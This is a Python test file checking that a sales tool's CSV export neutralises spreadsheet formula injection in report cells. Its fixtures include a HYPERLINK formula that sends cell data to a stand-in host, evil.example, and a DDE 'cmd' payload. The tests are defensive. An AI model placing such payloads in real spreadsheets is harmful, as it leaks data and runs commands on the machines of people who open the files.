"""Every CSV notnow writes is safe to open in a spreadsheet: one function makes every cell.

Finding: the report's CSV export wrote cells starting with ``=`` verbatim (a competitor named
``=HYPERLINK(…)`` by a prospect, a salesperson's name, an account's industry from a CRM file
became formulas when a manager opened the file).
"""

from __future__ import annotations

import csv
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Rival")'


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+49 30 1234", "'+49 30 1234"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("  =1+1", "'  =1+1"), ("＝1+1", "'＝1+1"),
    ("a=b", "a=b"), ("", ""), (None, ""), (True, "true"), (date(2027, 1, 4), "2027-01-04"),
    ("nul\x00byte", "nulbyte"), (-2, "-2"), (-0.25, "-0.25"), (Decimal("-3.50"), "-3.50"),
])
def test_cells_are_safe_and_numbers_stay_numbers(value: object, cell: str) -> None:
    from notnow.render.spreadsheet import safe_cell

    assert safe_cell(value) == cell


def test_the_crm_writers_use_the_same_function() -> None:
    import notnow.crm
    from notnow.crm import writers
    from notnow.render.spreadsheet import safe_cell

    assert writers.safe_cell is safe_cell and notnow.crm.safe_cell is safe_cell


def test_write_csv_neutralises_header_and_rows(tmp_path: Path) -> None:
    from notnow.render.spreadsheet import write_csv

    path = write_csv(tmp_path / "t.csv", ["name", "=evil"], [[FORMULA, 3], ["ok", None]])
    with path.open(newline="", encoding="utf-8") as fh:
        assert list(csv.reader(fh)) == [["name", "'=evil"], ["'" + FORMULA, "3"], ["ok", ""]]


def _no_formula_in(folder: Path) -> list[str]:
    cells = []
    for path in folder.glob("*.csv"):
        with path.open(newline="", encoding="utf-8") as fh:
            cells += [c for row in csv.reader(fh) for c in row]
    assert cells
    assert not [c for c in cells if c.lstrip(" ").startswith(("=", "+", "@", "\t", "\r"))]
    return cells


def test_the_report_csv_neutralises_what_people_typed(ws: Any, tmp_path: Path, cli: Any) -> None:
    from sqlalchemy import update

    from actors import owner_of
    from learning_facts import build
    from notnow.render import report_html
    from notnow.services.learning import reports
    from notnow.storage.tables import Account, Rejection, User

    build(ws)
    with ws.db.write() as s:
        s.execute(update(Rejection).where(Rejection.competitor == "Rival")
                  .values(competitor=FORMULA))
        s.execute(update(User).where(User.name == "Ben").values(name="@SUM(1+1)*cmd|'/C calc'!A0"))
        s.execute(update(Account).where(Account.industry == "retail").values(industry="+retail"))
    rep = reports.report(ws, owner_of(ws))
    cells = _no_formula_in(Path(report_html.write_csv(rep, tmp_path / "out")[0]).parent)
    assert "'" + FORMULA in cells and "'+retail" in cells
    assert "'@SUM(1+1)*cmd|'/C calc'!A0" in cells
    r = cli("report", "--team", "--csv", str(tmp_path / "cli"))
    assert r.code == 0, r.err
    assert "'" + FORMULA in _no_formula_in(tmp_path / "cli")
